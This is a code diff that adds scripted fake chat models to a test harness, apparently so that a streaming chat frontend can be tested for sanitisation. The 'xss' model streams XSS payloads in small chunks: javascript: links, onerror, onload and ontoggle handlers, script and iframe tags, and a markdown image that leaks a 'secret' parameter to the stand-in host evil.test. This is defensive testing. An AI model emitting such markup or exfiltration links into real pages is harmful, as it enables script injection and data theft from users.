@@ -11,6 +11,7 @@ from collections.abc import AsyncIterator
 from functools import partial
 from typing import Any
 
+from pydantic_ai.exceptions import ModelHTTPError
 from pydantic_ai.models.function import AgentInfo, DeltaThinkingPart, DeltaToolCall, FunctionModel
 
 from services.llm import ModelRegistry
@@ -59,7 +60,60 @@ async def flood(messages: Any, info: AgentInfo) -> AsyncIterator[Any]:
         await asyncio.sleep(0)  # let the event loop deliver between chunks
 
 
+# Model text that tries to run script in the chat page, in small deltas so that tags arrive in
+# pieces while the reply streams. Every attempt would set window.__xss.
+XSS_REPLY = (
+    "Links: [click me](javascript:window.__xss='link') and "
+    "<a href=\"javascript:window.__xss='a'\" onclick=\"window.__xss='onclick'\">raw link</a>\n\n"
+    "<img src=x onerror=\"window.__xss='img'\"> <svg onload=\"window.__xss='svg'\"></svg>\n\n"
+    "<script>window.__xss='script'</script>"
+    "<iframe src=\"javascript:window.__xss='iframe'\"></iframe>\n\n"
+    "<details open ontoggle=\"window.__xss='toggle'\"><summary>s</summary>x</details>\n\n"
+    "<form action=\"javascript:window.__xss='form'\"><button>go</button></form>\n\n"
+    "![leak](http://evil.test/pixel.png?secret=1) [a normal link](https://example.test/page)\n\n"
+    "```\nnot <b>html</b> here\n```\n"
+)
+
+
+async def xss(messages: Any, info: AgentInfo) -> AsyncIterator[Any]:
+    for i in range(0, len(XSS_REPLY), 7):
+        yield XSS_REPLY[i : i + 7]
+
+
+async def fail(messages: Any, info: AgentInfo) -> AsyncIterator[Any]:
+    """A provider that answers HTTP 500."""
+    raise ModelHTTPError(status_code=500, model_name="script:fail", body={"error": "secret provider detail"})
+    yield ""  # a generator all the same
+
+
+DEMO_REPLY = (
+    "Saved. Parley streams each reply over `graphql-transport-ws`; a frontend subscribes like this:\n\n"
+    "```js\n"
+    'const client = createClient({ url: "ws://127.0.0.1:8000/graphql" });\n'
+    "client.subscribe({ query: CHAT, variables }, { next: show });\n"
+    "```\n\n"
+    "- **`TextDelta`** events grow the reply as the model writes it\n"
+    "- **`RunFinished`** carries the usage and the cost\n\n"
+    "A dropped socket resumes with `sessionEvents(afterSequence)`: no gap, no duplicate."
+)
+
+
+async def demo(messages: Any, info: AgentInfo) -> AsyncIterator[Any]:
+    """The README screenshot's reply: thinks, saves a memory, then answers in markdown."""
+    if not tool_returns(messages):
+        yield {0: DeltaThinkingPart(content="The user wants to see streaming; note the topic first.")}
+        args = '{"key": "topic", "value": "streaming replies", "scope": "session"}'
+        yield {1: DeltaToolCall(name="save_memory", json_args=args, tool_call_id="demo1")}
+        return
+    for i in range(0, len(DEMO_REPLY), 12):
+        yield DEMO_REPLY[i : i + 12]
+        await asyncio.sleep(0.005)
+
+
 MODELS = {
+    "script:demo": demo,
+    "script:fail": fail,
+    "script:xss": xss,
     "script:fast200": fast200,
     "script:flood": flood,
     "script:big": big,
